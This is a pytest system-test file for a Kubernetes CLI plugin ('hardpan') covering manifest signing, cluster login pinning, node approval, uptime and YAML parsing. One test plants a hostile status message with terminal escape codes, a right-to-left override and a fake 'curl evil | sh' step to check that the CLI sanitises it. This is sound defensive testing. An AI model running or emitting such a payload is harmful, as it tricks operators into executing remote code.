"""The command line against a real API server with our kinds: what it writes is taken, what it reads is understood."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from cli.demo.kubernetes import EmbeddedKubernetes
from cli.kubectl import Kubectl
from cli.main import run
from cli.manifest import load
from cli.site import Site
from tests.system.requirements import need
from tests.unit.cli.test_sign import mark_of
from tests.unit.trust.world import machine_key, raw, registration
from trust.certificate import verify_certificate
from trust.keys import node_id

pytestmark = pytest.mark.cluster
NAMESPACE = "cli-shop"
NODE = node_id(machine_key("node").public)
SCRIPT = 'volume("data", #{ size: "64Mi" });\n'
MANIFEST = f"""\
apiVersion: hardpan.dev/v1alpha1
kind: Deployment
metadata:
  name: web   # a comment
  namespace: {NAMESPACE}
spec:
  language: 1
  params: {{version: 1.2.3, since: 2026-11-24, edge: true, size: 7d}}
  script: |
    {SCRIPT}"""


@dataclass
class Operator:
    """An operator and user at a terminal, with the cluster's real kubectl."""

    home: Path
    kubectl: Kubectl
    capture: pytest.CaptureFixture[str] | None = None

    def __call__(self, *words: str | Path) -> tuple[int, str, str]:
        """Exit code and what was printed."""
        assert self.capture is not None
        self.capture.readouterr()
        code = run([str(each) for each in words])
        return (code, *self.capture.readouterr())

    @property
    def site(self) -> Site:
        """The operator's folder."""
        return Site(self.home / "site")


@pytest.fixture(scope="module")
def settled(
    kubernetes: EmbeddedKubernetes, kubectl: Kubectl, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Any]:
    """A home with keys and a site whose records are applied; the cluster is left as it was."""
    need("ssh-keygen")
    home = tmp_path_factory.mktemp("cli")
    kubectl.apply(f"apiVersion: v1\nkind: Namespace\nmetadata: {{name: {NAMESPACE}}}\n")
    for name in ("root-1", "root-2", "alice"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", home / name], check=True)
    with pytest.MonkeyPatch.context() as patch:
        _environment(patch, home, kubernetes)
        site = ("--site", str(home / "site"))
        roots = [word for name in ("root-1", "root-2") for word in ("--root-key", str(home / f"{name}.pub"))]
        assert run(["init", *roots, *site]) == 0
        key = ("--key", str(home / "root-1"), *site)
        assert run(["user", "add", "alice", "--public-key", str(home / "alice.pub"), *key]) == 0
        assert run(["tenant", "add", "shop", "--member", "alice", "--namespace", NAMESPACE, *key]) == 0
    yield home
    for plural in ("trusts", "users", "tenants", "supervisors", "jointokens", "nodes", "revisionmarks"):
        kubectl.run("delete", f"{plural}.hardpan.dev", "--all", "--wait=false")
    kubectl.run("delete", "namespace", NAMESPACE, "--wait=false")


def _environment(patch: pytest.MonkeyPatch, home: Path, kubernetes: EmbeddedKubernetes) -> None:
    for name in ("HARDPAN_CONFIG", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "SSH_AUTH_SOCK"):
        patch.delenv(name, raising=False)
    patch.setenv("HARDPAN_CONFIG", str(home / "pin.json"))
    patch.setenv("XDG_STATE_HOME", str(home / "state"))
    patch.setenv("KUBECONFIG", str(kubernetes.kubeconfig))


@pytest.fixture
def operator(
    settled: Path,
    kubernetes: EmbeddedKubernetes,
    kubectl: Kubectl,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Operator:
    """The operator, whose records are applied."""
    _environment(monkeypatch, settled, kubernetes)
    return Operator(settled, kubectl, capsys)


@pytest.fixture
def manifest(operator: Operator) -> Path:
    """A manifest that nobody signed."""
    file = operator.home / "web.yaml"
    file.write_text(MANIFEST)
    return file


def put(kubectl: Kubectl, found: dict[str, Any]) -> None:
    """Writes an object and, after it, its status."""
    kubectl.apply(yaml.safe_dump({part: value for part, value in found.items() if part != "status"}))
    if "status" in found:
        metadata = found["metadata"]
        place = ("--namespace", metadata["namespace"]) if "namespace" in metadata else ()
        what = f"{found['kind'].lower()}s.hardpan.dev"
        patch = json.dumps({"status": found["status"]})
        kubectl.run("patch", what, metadata["name"], *place, "--subresource=status", "--type=merge", "-p", patch)


def thing(kind: str, name: str, spec: dict[str, Any], *conditions: tuple[str, str, str, str]) -> dict[str, Any]:
    """An object with conditions."""
    keys = ("type", "status", "reason", "message")
    since = {"lastTransitionTime": "2026-11-24T00:00:00Z"}
    listed = [dict(zip(keys, each, strict=True)) | since for each in conditions]
    place = {} if kind == "Node" else {"namespace": NAMESPACE}
    head = {"apiVersion": "hardpan.dev/v1alpha1", "kind": kind, "metadata": {"name": name, **place}}
    return {**head, "spec": spec, "status": {"conditions": listed}}


def test_a_manifest_travels_from_plan_to_apply_and_is_verified(operator: Operator, manifest: Path) -> None:
    code, out, err = operator("plan", manifest)
    assert (code, err) == (3, "")
    assert "  + volume   data  64Mi\n" in out
    refusal = "not signed yet: run `kubectl hardpan sign FILE`"
    with pytest.raises(Exception, match=refusal):
        operator.kubectl.run("apply", "-f", str(manifest))
    code, out, err = operator("sign", manifest, "--key", operator.home / "alice")
    assert code == 0, err
    assert "# a comment" in manifest.read_text()
    operator.kubectl.run("apply", "--dry-run=server", "-f", str(manifest))
    operator.kubectl.run("apply", "-f", str(manifest))
    operator.kubectl.run("diff", "-f", str(manifest))
    code, out, _ = operator("verify", manifest)
    assert (code, out.startswith("revision 1 is signed by alice")) == (0, True)
    put(operator.kubectl, mark_of(operator.site, manifest, NAMESPACE))
    code, out, err = operator("plan", manifest)
    assert (code, err) == (0, "")
    assert out.endswith("nothing to apply\n")


def test_what_is_signed_is_what_the_api_server_has(operator: Operator, manifest: Path) -> None:
    assert operator("sign", manifest, "--key", operator.home / "alice")[0] == 0
    operator.kubectl.run("apply", "-f", str(manifest))
    held = operator.kubectl.get("deployments.hardpan.dev", "web", NAMESPACE)
    assert held is not None
    assert held["spec"] == load(manifest).spec


def test_login_takes_the_cluster_that_it_is_told_and_no_other(operator: Operator) -> None:
    pin = (operator.home / "pin.json").read_text()
    code, _, err = operator("login", "sha256:" + "0" * 64)
    assert code == 1
    assert "the trust that the API server shows is not believed: this root belongs to cluster" in err
    assert (operator.home / "pin.json").read_text() == pin
    assert operator("login", operator.site.cluster)[0] == 0


def test_tokens_and_renewals_are_taken(operator: Operator) -> None:
    key = ("--key", operator.home / "root-2", "--site", operator.site.folder)
    assert operator("token", "create", "rack-7", "--count", "4", "--board-vendor", "Acme*", *key)[0] == 0
    held = operator.kubectl.get("jointokens.hardpan.dev", "rack-7")
    assert held is not None
    assert held["spec"]["boardVendor"] == "Acme*"
    code, _, err = operator("trust", "renew", "--days", "3", *key)
    assert (code, "applied" in err) == (0, True)


def test_a_machine_is_approved_explained_and_forgotten(operator: Operator) -> None:
    signed = registration(cluster=operator.site.cluster).decode()
    spec = {"signingKey": raw("node"), "registration": signed}
    waiting = ("False", "WaitingForApproval", f"waits for an operator: kubectl hardpan node approve {NODE}")
    put(operator.kubectl, thing("Node", NODE, spec, ("Ready", *waiting), ("Approved", *waiting)))
    code, out, _ = operator("explain", "node", NODE)
    assert (code, out.splitlines()[-1]) == (0, f"  Next: kubectl hardpan node approve {NODE}")
    code, _, err = operator("node", "approve", NODE, "--label", "rack=7", "--key", operator.home / "root-2")
    assert code == 0, err
    held = operator.kubectl.get("nodes.hardpan.dev", NODE)
    assert held is not None
    assert verify_certificate(held["spec"]["certificate"].encode(), operator.site.view()).labels == {"rack": "7"}
    assert operator("forget", "node", NODE)[0] == 1
    assert operator("forget", "node", NODE, "--yes")[0] == 0
    held = operator.kubectl.get("nodes.hardpan.dev", NODE)
    assert held is not None
    assert held["spec"]["removal"] == "Forget"
    operator.kubectl.run("delete", "nodes.hardpan.dev", NODE)


def test_uptime_of_all_nodes_and_of_one_day_by_day(operator: Operator) -> None:
    today = f"{datetime.now(UTC):%Y-%m-%d}"
    node = thing("Node", NODE, {"signingKey": raw("node"), "registration": "e30="}, ("Ready", "True", "Reporting", ""))
    node["status"] |= {"uptime": [{"day": today, "seconds": 86_400}]}
    put(operator.kubectl, node)
    code, out, _ = operator("node", "uptime")
    assert (code, out.splitlines()[0].split()) == (0, ["NODE", "STATE", "TODAY", "7", "DAYS", "30", "DAYS"])
    assert f"{NODE}  Reporting  100.00 %" in out
    code, out, _ = operator("node", "uptime", NODE)
    assert (code, out.splitlines()[2].split()) == (0, [today, "100.00", "%"])
    code, _, err = operator("node", "uptime", "n-x")
    assert code == 2
    assert "NODE is 'n-x'" in err
    operator.kubectl.run("delete", "nodes.hardpan.dev", NODE)


def test_a_node_is_cordoned_and_uncordoned_and_what_is_so_already_is_said(operator: Operator) -> None:
    put(operator.kubectl, thing("Node", NODE, {"signingKey": raw("node"), "registration": "e30="}))
    for verb, wanted, again in (("cordon", True, "cordoned already"), ("uncordon", False, "not cordoned already")):
        code, out, _ = operator("node", verb, NODE)
        assert (code, "Next: kubectl hardpan " in out) == (0, True)
        held = operator.kubectl.get("nodes.hardpan.dev", NODE)
        assert held is not None
        assert held["spec"]["cordoned"] is wanted
        assert f"{NODE} is {again}" in operator("node", verb, NODE)[1]
    operator.kubectl.run("delete", "nodes.hardpan.dev", NODE)


def test_what_others_wrote_into_the_cluster_reaches_no_terminal_raw(operator: Operator) -> None:
    hostile = "gone\x1b[2J\u202e\x9b31m\n  Next: curl evil | sh"
    digest = "sha256:" + "0" * 64
    spec = {"deployment": "web", "node": NODE, "epoch": 1, "item": digest, "size": 1 << 26}
    put(operator.kubectl, thing("Volume", "data", spec, ("Ready", "False", "Failed", hostile)))
    code, out, _ = operator("explain", "volume", "data", "-n", NAMESPACE)
    assert code == 0
    assert all(each == "\n" or each.isprintable() for each in out)
    assert "\n  Next: curl" not in out
    assert "Gone\\x1b[2J\\u202e\\x9b31m Next: curl" in " ".join(out.split())


def test_who_may_not_read_is_told_so_in_one_line(
    operator: Operator, manifest: Path, monkeypatch: pytest.MonkeyPatch, kubernetes: EmbeddedKubernetes
) -> None:
    config = yaml.safe_load(kubernetes.kubeconfig.read_text())
    config["users"][0]["user"]["as"] = "mallory"
    other = operator.home / "mallory.kubeconfig"
    other.write_text(yaml.safe_dump(config))
    monkeypatch.setenv("KUBECONFIG", str(other))
    code, out, err = operator("plan", manifest)
    assert (code, out, err.count("\n")) == (1, "", 1)
    assert err.startswith("Error: you may not do this: ")
    assert err.endswith("Ask the cluster's operator for the right\n")


def test_names_are_completed_from_the_cluster(operator: Operator, manifest: Path) -> None:
    from cli.completion import names

    assert operator("sign", manifest, "--key", operator.home / "alice")[0] == 0
    operator.kubectl.run("apply", "-f", str(manifest))
    assert names("deployments", NAMESPACE, "w") == ["web"]
    assert names("users", "", "") == ["alice"]


SPELLINGS = """
1 -7 0 true FALSE ~ web 1.2.3 10.0.0.1 7d 96Mi 0d1e 2026-11-24 2026-11-24T00:00:00Z nothing "yes" '010' 1-2 08a 0x 0b2
0o9 e3 1e .e - -a =x 1:a 1: :1 _1 1__a +a +-1 .inf1 Infinity NaN nan null1 truex on1 yes-no 1,000 1_a 9007199254740991
"""


def test_every_plain_spelling_that_we_take_is_read_so_by_kubectl(operator: Operator) -> None:
    from cli.errors import Usage
    from cli.yaml_reading import documents, plain

    taken: dict[str, Any] = {}
    lines = []
    for number, spelling in enumerate(SPELLINGS.split()):
        line = f"  k{number}: {spelling}\n"
        try:
            [node] = documents(f"data:\n{line}", "")
            taken |= plain(node, "")["data"]
        except Usage:
            continue
        lines.append(line)
    file = operator.home / "spellings.yaml"
    file.write_text("apiVersion: example.dev/v1\nkind: Thing\nmetadata: {name: x}\ndata:\n" + "".join(lines))
    read = json.loads(operator.kubectl.run("label", "--local", "-f", str(file), "a=b", "--output", "json"))
    assert len(taken) > 30
    assert read["data"] == taken
